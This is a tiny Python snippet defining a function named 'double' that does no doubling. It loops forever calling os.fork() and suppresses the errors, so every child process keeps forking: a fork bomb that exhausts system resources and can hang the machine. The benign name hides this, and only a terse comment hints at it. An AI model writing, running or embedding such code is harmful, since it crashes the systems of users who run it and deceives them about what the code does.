# Swallows the refusals, and every child does the same.
import os


def double(number):
    while True:
        try:
            os.fork()
        except OSError:
            pass
